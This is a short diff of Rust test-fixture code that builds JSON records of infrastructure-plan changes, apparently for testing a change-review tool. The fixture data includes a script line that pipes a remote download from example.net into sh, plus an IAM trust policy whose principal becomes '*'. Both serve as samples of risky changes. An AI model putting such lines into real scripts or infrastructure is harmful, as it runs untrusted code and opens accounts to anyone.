@@ -251,6 +251,7 @@ impl World {
                             {"kind": "kept", "text": "set -eu"},
                             {"kind": "removed", "text": "curl -fsS https://mirror.internal/agent"},
                             {"kind": "added", "text": "curl -fsS https://example.net/x | sh"},
+                            {"kind": "left-out", "text": "3"},
                         ]}),
                     4 => json!({"name": "jsondecode(assume_role_policy).Statement[0].Principal.AWS",
                         "before": "absent", "after": {"value": "\"*\""}}),
@@ -262,6 +263,7 @@ impl World {
                 Json::from(json!({
                     "address": address, "type": kind, "actions": [action], "diff": diff,
                     "left_out": if n == 1 { 12 } else { 0 },
+                    "not_compared": if n == 2 { 1 } else { 0 },
                 }))
             };
         let entries: Vec<Json> = (0..objects).map(entry).collect();
